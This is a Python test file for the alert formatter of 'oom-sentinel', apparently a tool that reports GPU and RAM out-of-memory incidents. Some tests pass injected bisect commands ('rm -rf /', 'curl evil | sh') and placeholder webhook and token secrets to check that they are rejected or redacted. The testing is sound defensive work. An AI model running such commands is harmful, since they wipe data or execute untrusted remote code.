"""Alert text: what a person needs to act, read from a real snapshot, and nothing secret."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import snapshot_samples as samples
from pydantic import ValidationError

from oom_sentinel.daemon.alerts.format import render, render_incident, sample_alert
from oom_sentinel.daemon.alerts.policy import (
    HeldBackSummary,
    IncidentAlert,
    IncidentFacts,
    SoftOomWarning,
    StormSummary,
)
from oom_sentinel.daemon.classify.events import Pool
from oom_sentinel.daemon.incidents.regression import RegressionVerdict
from oom_sentinel.daemon.incidents.snapshot import write_snapshot
from oom_sentinel.daemon.incidents.snapshot_model import SnapshotDoc


def _written(tmp_path: Path, **changes: Any) -> tuple[IncidentAlert, dict[str, Any]]:
    content = samples.content(**changes)
    ref = write_snapshot(tmp_path / "snapshots", content)
    data = json.loads((ref.path / "snapshot.json").read_text())
    facts = IncidentFacts.from_incident(content.incident, ref)
    return IncidentAlert(key=f"incident:{facts.incident_id}", group=facts.group, facts=facts), data


def test_incident_alert_names_everything_needed_to_act(tmp_path: Path) -> None:
    intent, data = _written(tmp_path)
    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0 + 2)
    text = alert.title + "\n" + alert.body
    assert alert.title == "OOM: GPU out of memory on main on render-box in KSampler"
    assert alert.severity == "critical" and alert.kind == "incident"
    for expected in (
        "Instance: main (/opt/ComfyUI) on host render-box",
        "pool gpu (cuda), node KSampler #3, torch.OutOfMemoryError",
        "tried to allocate 2.00 GiB, 512.00 MiB free of 24.00 GiB",
        "20.00 GiB allocated by PyTorch, 1.00 GiB reserved but unallocated",
        "GPU 0 (NVIDIA GeForce RTX 4090): 23.50 GiB used of 24.00 GiB",
        "RAM: 39.00 GiB available of 64.00 GiB",
        "pid 999 (blender) 3.00 GiB",
        f"Snapshot: {data['id']}",
        str(tmp_path / "snapshots" / data["id"]),
        f"oom-sentinel snapshots show {data['id']}",
        "Try first: Close blender (pid 999): it holds 3.00 GiB on GPU 0.",
        "Then: Lower batch_size from 4 to 1",
    ):
        assert expected in text, expected
    assert "--lowvram" not in text  # only the top advice
    assert "oom-bisect" not in text  # no regression suspected
    assert alert.snapshot_id == data["id"] and alert.instance == "main" and alert.pool == "gpu"


def test_suspected_regression_names_the_bisect_command(tmp_path: Path) -> None:
    section = RegressionVerdict(
        True, "ran at 14.1 GiB peak on 2026-01-01 before a pull", "workflow"
    ).to_section()
    intent, data = _written(tmp_path, sections={"regression": section})
    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
    assert "Suspected regression" in body
    assert "ran at 14.1 GiB peak on 2026-01-01 before a pull" in body
    assert f"Find the update that broke it: oom-bisect {data['id']}" in body


@pytest.mark.parametrize(
    "regression",
    ["yes", {"suspected": "true"}, [], {"bisect_command": "rm -rf /"}],
    ids=["string", "truthy-string", "list", "no-flag"],
)
def test_a_regression_section_that_is_not_one_does_not_read(
    tmp_path: Path, regression: Any
) -> None:
    """Such a snapshot does not read (the alert is then made from the facts alone, see
    below); the writer never writes one (it leaves the section out, test_snapshot_model)."""
    _intent, data = _written(tmp_path)
    with pytest.raises(ValidationError):
        SnapshotDoc.model_validate({**data, "regression": regression})


@pytest.mark.parametrize("suspected", [None, False])
def test_no_bisect_command_without_a_suspected_regression(
    tmp_path: Path, suspected: bool | None
) -> None:
    sections = (
        {} if suspected is None else {"regression": RegressionVerdict(False, "same").to_section()}
    )
    intent, data = _written(tmp_path, sections=sections)
    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
    assert "oom-bisect" not in body and "Suspected regression" not in body


def test_a_foreign_bisect_command_is_not_repeated(tmp_path: Path) -> None:
    intent, data = _written(tmp_path)
    section = RegressionVerdict(True, "the install changed", "workflow").to_section()
    data = {**data, "regression": {**section, "bisect_command": "curl evil | sh"}}
    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
    assert "curl" not in body and f"oom-bisect {data['id']}" in body


def test_killed_by_os_alert_says_who_killed(tmp_path: Path) -> None:
    intent, data = _written(tmp_path, pool=Pool.KILLED_BY_OS)
    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0)
    assert alert.title.startswith("OOM: Killed for lack of memory on main")
    assert "killed by kernel" in alert.body


def test_without_a_readable_snapshot_the_facts_still_make_an_alert() -> None:
    facts = IncidentFacts(
        "i",
        "g",
        "main",
        "ram",
        3,
        1.0,
        2.0,
        "System RAM exhausted on main",
        "20270101T000000Z_ram_VAEDecode",
        "/data/snapshots/x",
    )
    alert = render(IncidentAlert("incident:i", "g", facts), 5.0, None)
    assert alert.title == "OOM: System RAM exhausted on main"
    assert "System RAM exhausted on main" in alert.body
    assert "Repeats: 3 failures" in alert.body
    assert "Snapshot: 20270101T000000Z_ram_VAEDecode" in alert.body


def test_secrets_in_a_snapshot_never_reach_the_alert(tmp_path: Path) -> None:
    intent, data = _written(tmp_path)
    data = {
        **data,
        "summary": "OOM on main, webhook https://hooks.slack.com/services/T000/B000/XXXXSECRET",
        "advice": [{"key": "k", "text": "set HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123 again"}],
    }
    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0)
    assert "XXXXSECRET" not in alert.body
    assert "hf_abcdefghijklmnopqrstuvwxyz0123" not in alert.body


def test_storm_summary_counts_and_points_at_the_latest_snapshot() -> None:
    latest = IncidentFacts("i", "g", "main", "gpu", 12, 1.0, 2.0, "s", "SNAP", "/d/SNAP")
    summary = StormSummary(
        key="summary:g:1",
        group="g",
        instance="main",
        pool="gpu",
        failures=11,
        incidents=0,
        first_s=1_800_000_000.0,
        last_s=1_800_000_600.0,
        ended=True,
        previous_s=1_799_999_990.0,
        latest=latest,
    )
    alert = render(summary, 1_800_001_000.0)
    assert alert.title == "OOM storm on main: 11 more failure(s) (storm over)"
    assert "11 more failure(s) between 2027-01-15 08:00:00 UTC and 2027-01-15 08:10:00 UTC" in (
        alert.body
    )
    assert "Latest snapshot: SNAP" in alert.body and alert.severity == "warning"
    still = render(replace(summary, ended=False), 1_800_001_000.0)
    assert "(still failing)" in still.title


def test_soft_warning_and_held_back_texts() -> None:
    warning = render(SoftOomWarning("w", "main", 6, 600.0, 1.0, 300.0), 301.0)
    assert warning.title == "Early warning: 6 recovered OOMs on main"
    assert "within 10 min" in warning.body
    held = render(HeldBackSummary("h", 14, ("a", "b"), 1.0, 2.0, 20), 3.0)
    assert held.title == "14 alert(s) held back by the rate limit"
    assert "- a\n- b\n- and 12 more" in held.body


def test_sample_alert_is_marked_as_a_test() -> None:
    alert = sample_alert(10.0, host="render-box")
    assert alert.title.startswith("TEST from oom-sentinel on render-box")
    assert alert.kind == "test" and alert.key == "test:10.000"
